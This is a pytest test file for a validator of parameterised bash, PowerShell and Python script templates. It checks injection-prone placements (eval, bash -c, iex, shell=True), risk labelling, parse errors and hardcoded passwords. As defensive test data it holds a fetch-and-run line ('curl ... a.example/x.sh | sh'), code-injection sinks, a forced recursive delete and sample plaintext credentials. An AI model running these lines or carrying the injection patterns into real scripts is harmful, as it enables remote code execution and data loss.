"""What a template may be, and what keeps one from being kept."""

# Tables of short scripts read best a line each.
# ruff: noqa: E501

from dataclasses import replace

import pytest

from core.safety.risk import Risk
from core.scripts.checking import assessed, check
from core.scripts.template import Parameter, ParameterType, ScriptLanguage, ScriptTemplate
from tests.support.tables import every_case


def of(language: str, body: str, *names: str, risk: Risk = Risk.NONE, **more: object) -> ScriptTemplate:
    parameters = tuple(Parameter(name, name) for name in names)
    return ScriptTemplate("Ask", "Asks.", ScriptLanguage(language), "network", risk, body, parameters, **more)  # type: ignore[arg-type]


@every_case(
    ("language", "body"),
    [
        ("bash", "ping -c 3 {{p}}\n"),
        ("bash", 'a={{p}}\necho "$a" | grep -F -- {{p}}\n'),
        ("bash", "df -h | awk '{print $5}' | grep {{p}}\n"),
        ("powershell", "Get-Item -Path {{p}}\n"),
        ("powershell", "$wanted = @{ Name = {{p}} }\nGet-Process @wanted\n"),
        ("powershell", "Get-Process | Where-Object { $_.Name -eq {{p}} }\n"),
        ("python", "import pathlib\nprint(pathlib.Path({{p}}).stat(), 'ü', {{p}})\n"),
        ("python", "import subprocess\nsubprocess.run(['ping', {{p}}], check=False)\n"),
    ],
)
def test_a_parameter_may_stand_wherever_a_value_may(language: str, body: str):
    assert check(of(language, body, "p")) == ()


@every_case(
    ("language", "body"),
    [
        ("bash", "echo '{{p}}'"), ("bash", 'echo "say {{p}}"'), ("bash", "# {{p}}\nls"), ("bash", "cat <<E\n{{p}}\nE\n"),
        ("bash", "{{p}} now"), ("bash", "x=$({{p}})"), ("bash", "eval {{p}}"), ("bash", "bash -c {{p}}"),
        ("bash", 'a={{p}}\neval "$a"'), ("bash", "echo $[{{p}}]"),
        ("powershell", '"{{p}}"'), ("powershell", "& {{p}}"), ("powershell", "@{{p}}"), ("powershell", "iex {{p}}"),
        ("powershell", "# {{p}}\nGet-Item a"), ("powershell", "<# {{p}} #>\nGet-Item a"), ("powershell", "Get-Item a{{p}}"),
        ("powershell", "$a = {{p}}\n& $a"), ("powershell", "[scriptblock]::Create({{p}})"),
        ("python", "print('{{p}}')"), ("python", "# {{p}}\n"), ("python", "print(f'{ {{p}} }')"), ("python", 'print(f"{ {{p}} }")'),
        ("python", "eval({{p}})"),
        ("python", "import os\nos.system({{p}})"), ("python", "import subprocess\nsubprocess.run({{p}}, shell=True)"),
    ],
)  # fmt: skip
def test_where_a_value_could_become_code_no_parameter_may_stand(language: str, body: str):
    assert {problem.field for problem in check(of(language, body, "p"))} == {"body"}


def test_declared_and_used_have_to_agree():
    (undeclared,) = check(of("bash", "ping {{host}} {{count}}\n", "host"))
    assert undeclared.sentence == "{{count}} is in the script but is not declared as a parameter."
    (unused,) = check(of("bash", "ping {{host}}\n", "host", "count"))
    assert (unused.field, unused.sentence) == ("parameters.1", "“count” is declared but is nowhere in the script.")


@pytest.mark.parametrize(
    ("language", "body"), [("bash", "if then\n"), ("powershell", "if ( {\n"), ("python", "def f(:\n")]
)
def test_what_cannot_be_parsed_is_refused_with_its_line(language: str, body: str):
    (problem,) = check(of(language, "\n" + body))
    assert problem.field == "body"
    assert "line" in problem.sentence.lower()


def test_what_is_never_shown_is_no_template():
    (problem,) = check(of("bash", "curl -s https://a.example/x.sh | sh\n"))
    assert problem.sentence.startswith("Withheld:")


def test_a_script_says_no_less_risk_than_it_has():
    deleting = "Remove-Item -Path {{p}} -Recurse -Force\n"
    (problem,) = check(of("powershell", deleting, "p"))
    assert problem.field == "risk"
    assert check(of("powershell", deleting, "p", risk=Risk.DESTROYS)) == ()
    assert assessed(of("powershell", "Get-Date\n", risk=Risk.CHANGES)).risk is Risk.CHANGES


@every_case(
    ("parameter", "field"),
    [
        (Parameter("p", "P", ParameterType.CHOICE), "parameters.0.choices"),
        (Parameter("p", "P", choices=("a",)), "parameters.0.choices"),
        (Parameter("p", "P", ParameterType.CHOICE, default="c", choices=("a", "b")), "parameters.0.default"),
        (Parameter("p", "P", ParameterType.NUMBER, default="x"), "parameters.0.default"),
        (Parameter("p", "P", default="geheim", sensitive=True), "parameters.0.default"),
        (Parameter("1p", "P"), "parameters.0.name"),
    ],
)
def test_a_parameter_that_cannot_be_is_refused_at_its_field(parameter: Parameter, field: str):
    template = ScriptTemplate(
        "A", "B", ScriptLanguage.BASH, "c", Risk.NONE, f"echo {{{{{parameter.name}}}}}", (parameter,)
    )
    assert field in {problem.field for problem in check(template)}


@every_case(
    "body",
    [
        "Get-Process | Select-Object Name, Id, CPU -First 3\n",
        "Get-Volume | Where-Object SizeRemaining -lt 10GB | Format-Table DriveLetter, Size\n",
        "Get-ADUser -Identity {{p}} -Properties LockedOut, Bad* | Format-List Name, LockedOut\n",
        "# it's one, of many\nGet-Date # don't, really\n$a = 'one, two', {{p}}\n",
        "$text = @'\nfirst, second\n'@\nGet-Item -Path {{p}}\n",
    ],
)
def test_powershell_is_read_as_people_write_it(body: str):
    assert check(of("powershell", body, *(["p"] if "{{p}}" in body else []))) == ()


@pytest.mark.parametrize(
    ("language", "body"),
    [
        ("powershell", "net use Z: \\\\srv\\share /user:acme\\svc Hunter2!x"), ("powershell", '$password = "Hunter2!x"'),
        ("powershell", '$secure = ConvertTo-SecureString "Hunter2!x" -AsPlainText -Force'),
        ("bash", "curl -u admin:Hunter2!x https://x/"), ("bash", "mysql -psonnenschein -u root"),
        ("python", "password = 'sonnenschein'\n"),
    ],
)  # fmt: skip
def test_a_password_in_a_script_is_asked_for_instead(language: str, body: str):
    (problem,) = check(of(language, body))
    assert (problem.field, "sensitive parameter" in problem.sentence) == ("body", True)


@pytest.mark.parametrize(
    ("language", "body"),
    [
        ("powershell", "$password = Read-Host -AsSecureString"), ("powershell", "$Password = $env:SVC_PASSWORD"),
        ("powershell", "$secure = ConvertTo-SecureString {{p}} -AsPlainText -Force"),
        ("powershell", "Set-ADAccountPassword -Identity {{p}} -NewPassword $secure -Reset"),
        ("powershell", "Get-ADUser {{p}} -Properties PasswordLastSet, PasswordExpired"),
        ("bash", 'PGPASSWORD="$1" psql -h {{p}}'), ("bash", "password=$(cat /run/secrets/pw)\nping {{p}}"),
        ("python", "import getpass\npassword = getpass.getpass()\nprint({{p}})\n"),
    ],
)  # fmt: skip
def test_a_script_may_ask_for_a_password_and_speak_of_it(language: str, body: str):
    names = ("p",) if "{{p}}" in body else ()
    problems = check(of(language, body, *names, risk=Risk.WEAKENS))
    assert [problem for problem in problems if "a password or a key" in problem.sentence] == []


@pytest.mark.parametrize("field", ["description", "look_first"])
def test_nor_is_there_a_password_in_what_is_said_of_a_script(field: str):
    template = replace(of("bash", "uptime"), **{field: "The account is svc, password: Hunter2!x"})
    assert field in {problem.field for problem in check(template)}
